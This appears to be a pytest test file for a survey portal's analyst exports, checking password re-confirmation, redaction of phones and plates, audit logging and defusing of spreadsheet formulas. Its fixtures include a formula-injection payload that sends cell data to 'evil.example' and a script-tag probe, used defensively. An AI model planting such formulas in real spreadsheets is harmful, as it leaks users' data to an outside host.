"""Exports for analysts: redacted unless asked, defused, one row per response, audited."""
import csv
import io
import re

import pytest
import yaml
from openpyxl import load_workbook
from sqlalchemy import select

from portal.audit import AuditEvent
from portal.extensions import db
from portal.review.models import AnswerTag
from surveys import definitions, services
from surveys.models import Answer, Response, Round, Street
from tests.conftest import PASSWORD, complete_journey, naughty_strings, open_definition

PHONE, PLATE, SCRIPT = "07700 900123", "YT68 XKR", "<script>alert(1)</script>"
RISKY = f"The driver of {PLATE} keeps circling, ring me on {PHONE} {SCRIPT}"
DISCLOSURE = "A girl who looks about 14 keeps getting into cars with older men at night."
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def street_id(name):
    return db.session.scalar(select(Street.id).filter_by(name=name))


def send(resident, street, impact, improve="Better lighting."):
    complete_journey(resident, street_id(street), {"effect": {"impact": impact}, "improvements": {"improve": improve}})
    page = resident.post("/survey/street-impact/check-answers", {"website": ""})
    assert page.status == 302


@pytest.fixture
def answers(survey, resident):
    send(resident, "Grange Road", RISKY, FORMULA)
    send(resident, "Cleveland Street", DISCLOSURE)
    return {r.street.name: r.id for r in db.session.scalars(select(Response))}


@pytest.fixture
def analyst(officer_client, survey):
    client = officer_client("analyst")
    assert client.post("/officer/confirm-password?next=/officer/import", {"password": PASSWORD}).status == 302
    return client


def download(client, url):
    with client._request():
        return client.client.get(url)


def read_csv(response):
    assert response.status_code == 200, response.status_code
    body = response.get_data()
    assert body.startswith("\ufeff".encode())
    return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def read_xlsx(response):
    assert response.status_code == 200, response.status_code
    book = load_workbook(io.BytesIO(response.get_data()))
    sheet = book["Responses"]
    cells = list(sheet.iter_rows())
    header = [c.value for c in cells[0]]
    return book, [dict(zip(header, row)) for row in cells[1:]]


def test_an_export_asks_for_the_password_again(officer_client, answers):
    client = officer_client("analyst")
    response = download(client, "/officer/export.csv?street=1")
    assert response.status_code == 302
    assert response.headers["Location"].startswith("/officer/confirm-password?next=/officer/export.csv")
    assert client.post(response.headers["Location"], {"password": PASSWORD}).response.headers["Location"] \
        == "/officer/export.csv?street=1"
    assert download(client, "/officer/export.csv?street=1").status_code == 200


def test_exports_are_for_analysts(officer_client, answers):
    client = officer_client("officer")
    for url in ("/officer/export.csv", "/officer/export.xlsx"):
        assert download(client, url).status_code == 403


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_both_exports_are_attachments_that_are_never_cached(analyst, answers, fmt):
    response = download(analyst, f"/officer/export.{fmt}")
    assert response.status_code == 200
    assert re.match(r'attachment; filename="?streetvoice-responses-\d{4}-\d{2}-\d{2}\.' + fmt, 
                    response.headers["Content-Disposition"])
    assert response.headers["Cache-Control"] == "no-store"
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert response.mimetype == {"csv": "text/csv", "xlsx": "application/vnd.openxmlformats-officedocument"
                                                            ".spreadsheetml.sheet"}[fmt]


def test_the_csv_has_a_row_per_response_redacted_and_defused(analyst, answers):
    rows = {int(r["response_id"]): r for r in read_csv(download(analyst, "/officer/export.csv"))}
    assert set(rows) == set(answers.values())
    risky = rows[answers["Grange Road"]]
    assert PHONE not in risky["impact"] and PLATE not in risky["impact"]
    assert "[PHONE]" in risky["impact"] and "[VEHICLE]" in risky["impact"]
    assert SCRIPT in risky["impact"]  # plain text in a text/csv attachment: nothing runs it
    assert risky["improve"].startswith("'=HYPERLINK(")
    assert risky["street"] == "Grange Road" and risky["postcode_district"] == "TS1" and risky["area"] == "Middlefield"
    assert risky["channel"] == "online" and risky["entered_by"] == ""
    assert re.fullmatch(r"\d{4}-\d{2}-\d{2} \d{2}:00", risky["submitted_hour"])
    assert risky["seen_kerb_crawling"] == "weekly" and risky["age_band"] == "35-49"
    assert risky["review_state"] == "Not reviewed"
    assert "(machine)" in risky["impact_themes"]
    flagged = rows[answers["Cleveland Street"]]
    assert "child_at_risk: open" in flagged["impact_safeguarding"]
    assert "street" not in rows[answers["Cleveland Street"]] or flagged["street"] == "Cleveland Street"


def test_the_xlsx_holds_the_same_and_never_a_formula(analyst, answers):
    book, rows = read_xlsx(download(analyst, "/officer/export.xlsx"))
    by_id = {r["response_id"].value: r for r in rows}
    risky = by_id[answers["Grange Road"]]
    assert "[PHONE]" in risky["impact"].value and PHONE not in risky["impact"].value
    assert PLATE not in risky["impact"].value and SCRIPT in risky["impact"].value
    assert risky["improve"].value.startswith("'=HYPERLINK(")
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
    about = {r[0].value: r[1].value for r in book["About"].iter_rows()}
    assert about["Written answers"] == "Personal data removed" and about["Responses"] == 2


def test_a_typed_formula_is_stored_as_text_in_the_xlsx_file(analyst, answers):
    raw = download(analyst, "/officer/export.xlsx").get_data()
    import zipfile

    sheet_xml = zipfile.ZipFile(io.BytesIO(raw)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "HYPERLINK" in sheet_xml


def test_filters_are_the_queues_and_are_audited(analyst, answers):
    rows = read_csv(download(analyst, f"/officer/export.csv?street={street_id('Cleveland Street')}"))
    assert [int(r["response_id"]) for r in rows] == [answers["Cleveland Street"]]
    area = db.session.scalar(select(Street).filter_by(name="Grange Road")).area_id
    rows = read_csv(download(analyst, f"/officer/export.csv?area={area}&survey=street-impact&round=test-round"))
    assert [int(r["response_id"]) for r in rows] == [answers["Grange Road"]]
    assert read_csv(download(analyst, "/officer/export.csv?round=test-round&survey=street-impact"))
    events = db.session.scalars(select(AuditEvent).filter_by(action="export").order_by(AuditEvent.id)).all()
    assert [e.detail["rows"] for e in events] == [1, 1, 2]
    assert events[1].detail == {"format": "csv", "rows": 1, "original": False,
                                "filters": {"area": str(area), "survey": "street-impact", "round": "test-round"}}
    assert all(e.officer_id == analyst.officer.id for e in events)


def test_an_unknown_filter_value_shows_the_export_page_with_an_error(analyst, answers):
    page = analyst.get("/officer/export.csv?survey=no-such-survey")
    assert page.status == 400 and page.error_messages == ["Select a survey from the list"]
    assert not db.session.scalars(select(AuditEvent).filter_by(action="export")).all()


def test_the_original_text_needs_a_reason_and_is_audited(analyst, answers):
    page = analyst.get("/officer/export.csv?original=y")
    assert page.status == 400 and page.error_messages == ["Enter why you need the original text"]
    response = download(analyst, "/officer/export.csv?original=y&reason=Crime+report+12%2F3456")
    rows = {int(r["response_id"]): r for r in read_csv(response)}
    assert PHONE in rows[answers["Grange Road"]]["impact"]
    event = db.session.scalars(select(AuditEvent).filter_by(action="export")).one()
    assert event.detail["original"] is True and event.detail["reason"] == "Crime report 12/3456"
    book, rows = read_xlsx(download(analyst, "/officer/export.xlsx?original=y&reason=Crime+report+12%2F3456"))
    assert any(PHONE in (r["impact"].value or "") for r in rows)


def test_themes_say_who_put_them_there_and_reviews_count(analyst, answers):
    rid = answers["Grange Road"]
    page = analyst.get(f"/officer/responses/{rid}")
    decisions = {}
    for box in page.select("input[type=checkbox]"):
        decisions.setdefault(box["name"], [])
        if box.has_attr("checked"):
            decisions[box["name"]].append(box["value"])
    # this response's answer and a theme the machine gave it (whichever the codebook finds)
    impact, theme = db.session.execute(select(AnswerTag.answer_id, AnswerTag.theme_id)
                                       .join(Answer, Answer.id == AnswerTag.answer_id)
                                       .where(Answer.response_id == rid).order_by(AnswerTag.theme_id)).first()
    assert theme in decisions[f"themes-{impact}"]
    decisions[f"themes-{impact}"].append("police_response")
    assert analyst.post(f"/officer/responses/{rid}", decisions).status == 302
    row = {int(r["response_id"]): r for r in read_csv(download(analyst, "/officer/export.csv"))}[rid]
    themes = row["impact_themes"].split("; ")
    assert "police_response (officer)" in themes
    assert f"{theme} (machine, confirmed)" in themes
    assert row["review_state"] == "Reviewed by 1 officer"


def test_questions_of_every_version_get_a_column(analyst, answers, resident):
    raw = yaml.safe_load(definitions.DEFAULT_DEFINITION.read_text(encoding="utf-8"))
    raw["rounds"] = open_definition().raw["rounds"]
    raw["pages"].append({"id": "extra", "title": "Extra", "questions": [
        {"id": "lighting_ok", "type": "single_choice", "label": "Is the lighting good enough?", "required": False,
         "options": [{"value": "yes", "label": "Yes"}, {"value": "no", "label": "No"}]}]})
    services.store_definition(definitions.parse(raw, source="v2"))
    rows = read_csv(download(analyst, "/officer/export.csv"))
    assert "lighting_ok" in rows[0] and "impact_themes" in rows[0]
    assert db.session.scalar(select(Round.slug)) == "test-round"


def test_naughty_strings_leave_both_exports_defused(analyst, survey):
    from tests.test_officer_import import ROW, csv_bytes, upload

    strings = naughty_strings()
    assert upload(analyst, csv_bytes([{**ROW, "impact": s, "improve": s} for s in strings])).status == 302
    query = "/officer/export.csv?original=y&reason=Checking+the+export"
    rows = read_csv(download(analyst, query))
    assert len(rows) == len(strings)
    dangerous = ("=", "+", "-", "@", "\t", "\r")
    for row in rows:
        for value in row.values():
            assert not value.startswith(dangerous), value
    book, xrows = read_xlsx(download(analyst, query.replace(".csv", ".xlsx")))
    assert len(xrows) == len(strings)
    for row in xrows:
        for cell in row.values():
            assert cell.data_type != "f"
            assert not (isinstance(cell.value, str) and cell.value.startswith(dangerous)), cell.value


def test_the_import_and_export_page_explains_both(analyst, answers):
    page = analyst.get("/officer/import")
    assert page.status == 200
    assert [h.get_text() for h in page.select("h2")][:2] == ["Export responses", "Import paper returns"]
    links = [a["href"] for a in page.select("a")]
    assert "/officer/import/template.csv?survey=street-impact" in links
    form = page.soup.select_one("form[action='/officer/export.csv']")
    assert form["method"] == "get"
    assert form.select_one("button[formaction='/officer/export.xlsx']")
    nav = [a.get_text(strip=True) for a in page.select(".govuk-service-navigation__link")]
    assert "Import and export" in nav
